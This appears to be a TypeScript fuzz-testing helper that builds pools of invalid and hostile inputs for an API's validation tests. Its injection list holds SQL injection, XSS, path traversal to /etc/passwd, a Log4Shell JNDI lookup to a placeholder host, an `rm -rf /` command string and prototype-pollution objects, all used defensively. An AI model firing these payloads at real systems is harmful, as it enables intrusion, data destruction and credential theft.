import fc from 'fast-check';

/**
 * Hostile values for the input fuzz suite (issue 7 "Bad input"): wrong types, unicode oddities,
 * injection strings, broken money and dates. Each pool lists values that are INVALID for the
 * kind of field it serves; the free-text pools (unicode, injections) are also sent to fields where
 * they are valid text, where the only expectation is "no 5xx, nothing dangerous stored".
 */

/** What a field is, as far as the fuzzer cares. */
export type Tipo =
  | 'texto'
  | 'id'
  | 'centimos'
  | 'entero'
  | 'fecha'
  | 'porcentaje'
  | 'booleano'
  | 'enum'
  | 'email'
  | 'telefono'
  | 'password'
  /** A list of identifiers (1…`max` of them). */
  | 'ids'
  /** A non-empty list of line numbers (positive integers), at most `max` of them. */
  | 'lineas';

export interface Campo {
  tipo: Tipo;
  requerido?: boolean;
  /** null is a valid value (nullish fields). */
  nulable?: boolean;
  /** Shortest valid text after trimming (strings). */
  min?: number;
  /** Longest valid text (strings) or largest valid number. */
  max?: number;
  /** Smallest valid number (numbers). */
  minimo?: number;
  /** Members of an enum. */
  valores?: readonly string[];
}

export const UNICODE_RARO = [
  '😀💸🇨🇷',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u202Egnp.exe',
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x\udfffy',
  '\uFEFFhola',
  'Z̷̢͎a̶l̵g̸o̴',
  '𝕮𝖚𝖔𝖙𝖆',
  'ñandú Ñ áéíóú ü',
  'línea\r\nnueva\tcon tab',
  '\u200B\u200C\u200D',
] as const;

export const INYECCIONES = [
  '{"$gt":""}',
  '$where',
  '$ne',
  "' OR '1'='1",
  "'; DROP TABLE clientes;--",
  '1; SELECT * FROM usuarios',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '#pk = :v',
  'attribute_exists(pk) OR attribute_not_exists(sk)',
  ':v',
  'CLIENTE#1',
  'USUARIO#admin-1',
  '${jndi:ldap://x.y/z}',
  '{{7*7}}',
  '`rm -rf /`',
  '%00',
  '\\u0000',
] as const;

/** Objects a NoSQL-minded attacker sends in place of a scalar; all are wrong types for any field here. */
export const OBJETOS_HOSTILES: readonly unknown[] = [
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(1000)' },
  { S: 'CLIENTE#1' },
  { N: '1' },
  JSON.parse('{"__proto__":{"admin":true}}'),
  { constructor: { prototype: { admin: true } } },
  [],
  ['a'],
  [1, 2],
];

const ID_VALIDO = /^[A-Za-z0-9_-]{1,64}$/;

/** Identifiers (path-safe [A-Za-z0-9_-], at most 64). */
export const IDS_MALOS = [...INYECCIONES, ...UNICODE_RARO, '', '   ', 'a'.repeat(65), 'a/b', 'a b', 'ñ', 'a.b', 'a#b'].filter(
  (s) => !ID_VALIDO.test(s.trim()),
);

/** Dates that are not a real day, not AAAA-MM-DD, or out of range (year 0, year 9999). */
export const FECHAS_MALAS = [
  '2026-02-30',
  '2025-02-29',
  '2025-13-01',
  '2025-00-10',
  '2025-01-00',
  '2025-01-32',
  '2026-1-1',
  '26-01-01',
  '2026/01/01',
  '01-01-2026',
  '2026-01-01T00:00:00Z',
  '+02026-01-01',
  '',
  'hoy',
  '9999-99-99',
  '0000-01-01',
  '0001-01-01',
  '1000-06-15',
  '9999-12-31',
  '2026-02-30\u0000',
] as const;

/** Percentages (decimal strings, up to 3 integer digits and 2 decimals). */
export const PORCENTAJES_MALOS = [
  '-5',
  '1e2',
  'NaN',
  'Infinity',
  '18.555',
  '1000',
  '0x10',
  '18..5',
  '.5',
  '18.',
  '',
  '   ',
  '١٨',
  '18.5%',
  '18,5,0',
  '+18',
] as const;

export const EMAILS_MALOS = [
  'a',
  'a@',
  '@b.cr',
  'a@b',
  'a@@b.cr',
  'a b@c.cr',
  '<script>@x.cr',
  'a@b.cr\u0000x',
  `${'a'.repeat(250)}@b.cr`,
  'a@b..cr',
  'a@b.cr,c@d.cr',
  'a@b.cr\nBcc: x@y.cr',
] as const;

export const PASSWORDS_MALAS = [
  '',
  'a',
  'corta1!A',
  'sinmayusculas-2026!',
  'SINMINUSCULAS-2026!',
  'Sin-Digitos-Nunca!',
  'SinSimbolo2026abc',
  'A1!'.repeat(90),
] as const;

/** Wrong JSON types for a field of the given kind (never undefined, and never null when null is valid). */
export function tiposIncorrectosDe(campo: Campo): unknown[] {
  const comunes: unknown[] = [...OBJETOS_HOSTILES, ...(campo.nulable ? [] : [null])];
  switch (campo.tipo) {
    case 'ids':
      // an array of valid ids ( ['a'] ) is the right type here
      return [...comunes.filter((v) => !(Array.isArray(v) && v.every((x) => typeof x === 'string'))), 'a', '', 123, true, [1, 2]];
    case 'centimos':
    case 'entero':
      return [...comunes, '100', '1e3', '100.50', '₡100', '', ' ', 'NaN', 'Infinity', true, false];
    case 'booleano':
      return [...comunes, 'true', 'false', 1, 0, 'sí', ''];
    case 'lineas':
      return [
        ...comunes.filter((v) => !(Array.isArray(v) && v.length > 0 && v.every((x) => Number.isInteger(x) && x > 0))),
        2,
        '1,2',
        true,
        ['1'],
        [true],
        [null],
      ];
    default:
      return [...comunes, 123, 0, -1, 1.5, true, false];
  }
}

/** Values of the right JSON type that break the field's format or range (a fixed list, sent one by one). */
export function formatosMalosDe(campo: Campo): unknown[] {
  switch (campo.tipo) {
    case 'id':
      return [...IDS_MALOS];
    case 'ids':
      return [
        [],
        ...IDS_MALOS.slice(0, 8).map((id) => ['a', id]),
        Array.from({ length: (campo.max ?? 100) + 1 }, (_, i) => `ID${i}`),
      ];
    case 'centimos': {
      const minimo = campo.minimo ?? 1;
      return [-1, -100, 0, 0.5, 100.5, 1e-7, 2 ** 53 + 2, 1e21, 1e308, -1e308, Number.MIN_VALUE, minimo - 1, minimo + 0.5];
    }
    case 'entero': {
      const minimo = campo.minimo ?? 1;
      const max = campo.max ?? 1_000_000;
      return [minimo - 1, -1, 1.5, max + 1, 1e9, 2 ** 53 + 2, 1e308, -1e308];
    }
    case 'lineas':
      return [[], [0], [-1], [1.5], [2 ** 53 + 2], Array.from({ length: (campo.max ?? 100) + 1 }, (_, i) => i + 1)];
    case 'fecha':
      return [...FECHAS_MALAS];
    case 'porcentaje':
      return [...PORCENTAJES_MALOS];
    case 'enum':
      return ['', 'ADMIN', 'Todos', ' todos', 'todos ', 'otro', '<script>', '$ne', 'todos\u0000', ...INYECCIONES].filter(
        (s) => !(campo.valores ?? []).includes(s),
      );
    case 'email':
      return [...EMAILS_MALOS];
    case 'password':
      return [...PASSWORDS_MALAS];
    case 'texto':
    case 'telefono':
      // whitespace only is empty after trim: too short when the field needs text
      return (campo.min ?? 0) > 0 ? ['', '   ', '\t\n'] : [];
    default:
      return [];
  }
}

/** Random wrong types: the fixed list. */
export const tiposIncorrectos = (campo: Campo): fc.Arbitrary<unknown> => fc.constantFrom(...tiposIncorrectosDe(campo));

/** Random bad formats: the fixed list plus random out-of-range numbers; null when the kind has none. */
export function formatosMalos(campo: Campo): fc.Arbitrary<unknown> | null {
  const fijos = formatosMalosDe(campo);
  if (fijos.length === 0) return null;
  const lista = fc.constantFrom(...fijos);
  if (campo.tipo === 'centimos') {
    const minimo = campo.minimo ?? 1;
    return fc.oneof(
      lista,
      fc.integer({ min: -1_000_000_000, max: minimo - 1 }),
      fc.double({ min: minimo, max: 1e9, noNaN: true, noDefaultInfinity: true }).filter((d) => !Number.isInteger(d)),
    );
  }
  if (campo.tipo === 'entero') {
    const minimo = campo.minimo ?? 1;
    const max = campo.max ?? 1_000_000;
    return fc.oneof(
      lista,
      fc.integer({ min: max + 1, max: 2_000_000_000 }),
      fc.integer({ min: -2_000_000_000, max: minimo - 1 }),
    );
  }
  return lista;
}

/** A string just over the field's maximum (never blank, so trimming cannot rescue it). */
export function textoLargo(max: number): fc.Arbitrary<string> {
  return fc
    .tuple(fc.integer({ min: max + 1, max: Math.min(max * 4 + 16, 120_000) }), fc.constantFrom('a', 'ñ', 'Z̷', '<', '$'))
    .map(([n, ch]) => ch.repeat(Math.ceil(n / ch.length)));
}

/** Length in characters (code points), as the schemas count it: an astral letter is one character, two UTF-16 units. */
const caracteres = (s: string) => [...s].length;

/** Free text that any text field should take or refuse with a 400, never a 5xx. */
export const textoLibre = (min: number, max: number) =>
  fc
    .oneof(
      fc.constantFrom(...UNICODE_RARO, ...INYECCIONES),
      fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, 60) }),
      fc.string({ unit: 'binary', minLength: min, maxLength: Math.min(max, 60) }),
    )
    .map((s) => [...(caracteres(s.trim()) >= min ? s : `${s}${'x'.repeat(min)}`)].slice(0, max).join(''));

/** 1 MiB: over the request body limit on its own. */
export const UN_MEGA = 'A'.repeat(1024 * 1024);

/** Broken JSON documents and bodies that are valid JSON but not an object. */
export const JSON_ROTOS = [
  '{',
  '{"a":',
  "{'a':1}",
  'NaN',
  '{"a":1}}',
  'undefined',
  '\u0000',
  '[1,]',
  '{"a":01}',
  '{"a":"\\x41"}',
  '\uFEFF{"a":1',
] as const;
export const NO_OBJETOS: readonly unknown[] = [[], [{}], 'texto', 42, 0, true, false, null];

/** Raw JSON number literals that JSON.parse turns into something no money field may take. */
export const NUMEROS_CRUDOS = ['1e400', '-1e400', '-0.5', '1e-400', '-1', '0.1'] as const;

/** Messages that betray an English default (zod, JSON.parse, the SDK) instead of the spec's Spanish. */
export const FRASES_EN_INGLES = [
  /invalid input/i,
  /\bexpected\b/i,
  /\breceived\b/i,
  /\brequired\b/i,
  /\bmust\b/i,
  /\bshould\b/i,
  /too (big|small|long|short)/i,
  /unrecognized/i,
  /\binvalid\b/i,
  /\b(string|number|boolean|object|array|undefined)\b/i,
  /\bnot a valid\b/i,
  /unexpected token/i,
  /\bposition \d+/i,
  /\bexception\b/i,
  /\bstack\b/i,
];

export function enIngles(texto: string): RegExp | undefined {
  return FRASES_EN_INGLES.find((re) => re.test(texto));
}
